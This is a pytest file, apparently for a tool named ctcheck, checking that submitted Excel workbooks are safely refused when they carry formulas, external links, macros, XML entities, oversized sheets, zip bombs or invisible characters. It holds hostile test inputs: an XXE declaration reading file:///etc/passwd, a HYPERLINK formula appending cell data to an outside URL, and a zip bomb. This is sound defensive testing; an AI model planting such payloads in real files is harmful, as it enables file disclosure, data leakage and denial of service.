"""Workbooks that nobody should send: told plainly, nothing run, nothing fetched, nothing lost."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from ctcheck.errors import Exit
from ctcheck.reading.files import UnreadableError
from ctcheck.workbook.make import make_workbook
from ctcheck.workbook.plan import Form
from tests.cli.outcome import Ctcheck
from tests.workbook.desk import SMALL, Desk, Opened
from tests.workbook.same import said_by


@pytest.fixture(scope="module")
def small(desk: Desk) -> Form:
    return desk.only(desk.planned(), "Plan", "Evidence", "Partners", "Partner answers")


@pytest.fixture(scope="module")
def book(small: Form) -> bytes:
    return make_workbook(small)


def repacked(book: bytes, change: dict[str, bytes | None], add: dict[str, bytes] | None = None) -> bytes:
    """The zip with parts replaced, or with what a pattern finds in one cut out."""
    held = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book)) as old, zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            data = change.get(part.filename, old.read(part)) if part.filename in change else old.read(part)
            if data is not None:
                new.writestr(part.filename, data)
        for name, data in (add or {}).items():
            new.writestr(name, data)
    return held.getvalue()


def part(book: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        return archive.read(name)


def sheet_part(book: bytes, name: str) -> str:
    names = openpyxl.load_workbook(io.BytesIO(book), read_only=True).sheetnames
    return f"xl/worksheets/sheet{names.index(name) + 1}.xml"


def test_formulas_in_answers_are_refused_and_never_worked_out(desk: Desk, small: Form) -> None:
    opened = Opened.of(small)
    where = [
        opened.put("Plan", "plan.published", '=HYPERLINK("http://example.invalid/"&A1)'),
        opened.put("Plan", "plan.status", "=[1]Other!A1"),
    ]
    read = desk.convert(opened.saved())
    assert (read.text, [one.path for one in read.problems[:2]]) == ("", where[::-1])
    assert all("formula" in one.message for one in read.problems[:2])


def test_a_text_that_looks_like_a_formula_stays_a_text(desk: Desk) -> None:
    text = SMALL.replace("title: A small one", "title: '=1+1'")
    read = desk.convert(make_workbook(desk.planned(text)))
    assert read.submission is not None
    assert read.submission.title == "=1+1"


def test_links_to_other_files_are_told_and_not_followed(desk: Desk, book: bytes) -> None:
    link = b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    read = desk.convert(repacked(book, {}, {"xl/externalLinks/externalLink1.xml": link}))
    assert read.submission is not None
    assert said_by(read.submission) == said_by(desk.read(SMALL))
    assert "were not followed" in read.remarks[0].said


def test_macros_are_refused(desk: Desk, book: bytes) -> None:
    with pytest.raises(UnreadableError, match="macros"):
        desk.convert(repacked(book, {}, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))


@pytest.mark.parametrize(
    "declared", [b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', b"<!DOCTYPE x>"]
)
def test_entities_are_refused(declared: bytes, desk: Desk, book: bytes) -> None:
    name = "xl/sharedStrings.xml"
    head, _, rest = part(book, name).partition(b"?>")
    with pytest.raises(UnreadableError, match="no spreadsheet program writes"):
        desk.convert(repacked(book, {name: head + b"?>" + declared + rest}))


def test_a_million_blank_rows_are_refused_with_the_sheet(desk: Desk, book: bytes) -> None:
    name = sheet_part(book, "Plan")
    rows = b"".join(b'<row r="%d"><c r="A%d" s="1"/></row>' % (at, at) for at in range(100, 1_000_100))
    data = part(book, name).replace(b"</sheetData>", rows + b"</sheetData>")
    with pytest.raises(UnreadableError, match="'Plan' has more than 50,000 rows"):
        desk.convert(repacked(book, {name: data}))


def test_one_cell_in_the_last_row_is_no_million_rows(desk: Desk, book: bytes) -> None:
    name = sheet_part(book, "Plan")
    row = b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>end</t></is></c></row>'
    read = desk.convert(
        repacked(book, {name: part(book, name).replace(b"</sheetData>", row + b"</sheetData>")})
    )
    assert read.submission is not None, read.problems


def test_a_zip_bomb_is_refused(desk: Desk, book: bytes) -> None:
    with pytest.raises(UnreadableError, match="holds more than"):
        desk.convert(repacked(book, {}, {"xl/media/big.bin": bytes(80 * 1024 * 1024)}))


@pytest.mark.parametrize(
    "data",
    [b"PK\x03\x04 this is no archive", b"PK", b""],
    ids=["broken", "short", "empty"],
)
def test_what_is_no_workbook_is_refused_without_a_traceback(
    data: bytes, tmp_path: Path, ctcheck: Ctcheck
) -> None:
    path = tmp_path / "book.xlsx"
    path.write_bytes(data)
    out = tmp_path / "out.yaml"
    done = ctcheck("workbook", "read", path, "-o", out)
    assert (done.code, out.exists()) == (Exit.SUBMISSION, False)
    assert "Traceback" not in done.err
    assert "book.xlsx" in done.err


def test_a_workbook_of_somebody_else_is_refused(desk: Desk) -> None:
    held = io.BytesIO()
    other = openpyxl.Workbook()
    other.active.append(["Name", "Telephone"])
    other.save(held)
    with pytest.raises(UnreadableError, match="no sheet of this workbook"):
        desk.convert(held.getvalue())


def test_sheets_with_wrong_names_are_read_or_told(desk: Desk, small: Form) -> None:
    opened = Opened.of(small)
    opened.book["Plan"].title = "Sheet7"
    opened.book["Partners"].title = "who"
    opened.book.create_sheet("Scribbles").append(["a", "b"])
    read = desk.convert(opened.saved())
    assert read.submission is not None, read.problems
    assert said_by(read.submission) == said_by(desk.read(SMALL))
    told = {one.where: one.said for one in read.remarks}
    assert "left out" in told["Scribbles"]
    assert "'Partners'" in told["who"]


def test_every_answer_that_is_refused_is_listed(desk: Desk, small: Form) -> None:
    """Nothing is lost: what was typed is in the result, or named with its cell."""
    opened = Opened.of(small)
    sheet = opened.book["Partner answers"]
    heads = opened.heads("Partner answers")
    typed = {}
    for row in range(4, sheet.max_row + 1):
        cell = sheet.cell(row, heads["Answer"])
        cell.value = "\N{PILE OF POO} nonsense"
        typed[f"Partner answers!{cell.coordinate}"] = sheet.cell(row, heads["Fact"]).value
    read = desk.convert(opened.saved(), keep_going=True)
    assert read.submission is not None
    refused = {one.path for one in read.problems}
    kept = {path for one in read.submission.partners or () for path in one.facts}
    texts = {path for path in typed.values() if desk.packs.vocabulary.facts[path].type.kind == "text"}
    assert kept == texts
    assert refused == {where for where, path in typed.items() if path not in texts}


def test_invisible_characters_are_refused(desk: Desk, small: Form) -> None:
    opened = Opened.of(small)
    where = opened.put("The area", "title", "a\N{RIGHT-TO-LEFT OVERRIDE}b")
    assert [one.path for one in desk.convert(opened.saved()).problems] == [where]


def test_words_of_a_workbook_do_not_reach_the_terminal_raw(
    desk: Desk, small: Form, tmp_path: Path, ctcheck: Ctcheck
) -> None:
    opened = Opened.of(small)
    opened.book["Evidence"].title = "\N{ZERO WIDTH SPACE}Documents"
    opened.put("Plan", "plan.status", "\N{ZERO WIDTH SPACE}no such\N{LINE SEPARATOR}thing at all")
    path = tmp_path / "book.xlsx"
    path.write_bytes(opened.saved())
    done = ctcheck("workbook", "read", path)
    assert done.code == Exit.SUBMISSION
    assert not re.search("[\N{ZERO WIDTH SPACE}\N{LINE SEPARATOR}\x1b]", done.err)
